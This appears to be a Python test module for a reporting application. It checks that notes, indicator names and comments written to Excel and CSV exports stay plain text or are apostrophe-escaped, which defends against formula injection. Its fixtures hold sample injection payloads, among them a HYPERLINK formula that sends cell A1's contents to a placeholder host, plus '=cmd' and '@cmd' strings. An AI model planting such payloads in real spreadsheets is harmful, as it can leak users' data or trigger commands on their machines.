"""Every cell we write from a person's text is text (issue 16): a note "=HYPERLINK(…)", an indicator name
from an imported plan, a DHIS2 comment — never a live formula in the file, and a template downloaded and
uploaded unchanged keeps such a note instead of erasing it."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansinh.core.cells import FORMULA_STARTS, csv_plain, csv_text
from ansinh.exchange.formats.dhis2_values import Dhis2Value, format_csv
from ansinh.exchange.formats.opensdg import TidyRow, format_tidy_csv
from ansinh.exchange.formats.table import write_table
from ansinh.exchange.services.spreadsheets import (
    export_multi_unit_workbook,
    export_report_workbook,
    import_multi_unit_workbook,
    import_report_workbook,
)
from ansinh.reporting.models import AssignmentRole, DataValue
from ansinh.reporting.services.assignments import add_assignment
from ansinh.reporting.services.periods import get_or_create_report, get_or_open_year_period
from ansinh.reporting.services.values import ValueInput, save_values

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://ke-gian.invalid/?q="&A1,"Bấm vào đây")'
SUM = "+SUM(1;2)"
AT = "@cmd"


@pytest.fixture
def noted(world):
    for indicator in (world.supported, world.coverage):
        add_assignment(indicator, role=AssignmentRole.COMMUNES)  # a figure needs an assignment
    period = get_or_open_year_period(world.program, 2025)
    unit = world.new_communes[0]
    report = get_or_create_report(period, unit)
    save_values(
        report,
        [
            ValueInput(world.supported, text="120", note=LINK, evidence=SUM),
            ValueInput(world.coverage, text="91,5", note=AT),
        ],
    )
    world.supported.name = "=1+2 người được hỗ trợ"  # as an imported plan could name it
    world.supported.save()
    return period, unit


def formulas(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "s"
    }


def notes(period, unit) -> dict[str, tuple[str, str]]:
    values = DataValue.objects.filter(report__period=period, report__unit=unit, disaggregation="")
    return {value.indicator.code: (value.note, value.evidence) for value in values.select_related("indicator")}


def test_a_units_template_writes_notes_and_names_as_text_and_reads_them_back_unchanged(noted, world):
    period, unit = noted
    content = export_report_workbook(period, unit)
    assert formulas(content) == []
    assert {LINK, SUM, AT, "=1+2 người được hỗ trợ"} <= texts(content)
    before = notes(period, unit)
    result = import_report_workbook(period, unit, content, filename="khong-doi.xlsx")
    assert result.ok, result.errors
    assert result.changed == 0
    assert notes(period, unit) == before == {"1.1": (AT, ""), "1.2": (LINK, SUM)}


def test_the_multi_unit_workbook_writes_notes_as_text_and_reads_them_back_unchanged(noted, world):
    period, unit = noted
    content = export_multi_unit_workbook(period, world.new_communes)
    assert formulas(content) == []
    assert {LINK, SUM, AT} <= texts(content)
    result = import_multi_unit_workbook(period, content, may_write=lambda _unit: True, filename="tong-hop.xlsx")
    assert result.ok, result.errors
    assert result.changed == 0
    assert notes(period, unit)["1.2"] == (LINK, SUM)


def test_a_list_writes_a_formula_like_text_as_text():
    assert formulas(write_table("Danh sách", ["Tên"], [[LINK], [SUM]])) == []


def test_the_dhis2_csv_export_escapes_a_comment_and_keeps_numbers():
    value = Dhis2Value(
        data_element="de1",
        period="2025",
        org_unit="ou1",
        category_option_combo="",
        attribute_option_combo="",
        value="-5",
        stored_by="@admin",
        comment=LINK,
    )
    rows = list(csv.reader(io.StringIO(format_csv([value]))))
    assert rows[1][5] == "-5"
    assert rows[1][6] == "'@admin"
    assert rows[1][8] == "'" + LINK


def test_the_open_sdg_export_escapes_its_text_columns():
    row = TidyRow(year=2025, value=None, disaggregation="", geocode="=cmd", units="")
    text = format_tidy_csv([row], units="-người", geocodes=True)
    assert list(csv.reader(io.StringIO(text)))[1][1:3] == ["'-người", "'=cmd"]


@given(st.text())
def test_no_csv_cell_starts_a_formula_unless_it_is_a_number(text):
    written = csv_text(text)
    assert written == text or written == "'" + text
    assert csv_plain(written) == text
    if written.startswith(FORMULA_STARTS):
        assert written.lstrip("+-")[:1].isdigit()


@pytest.mark.parametrize("number", ["-5", "+3", "-1.234,5", "-2,23%", "12"])
def test_numbers_are_left_alone(number):
    assert csv_text(number) == number
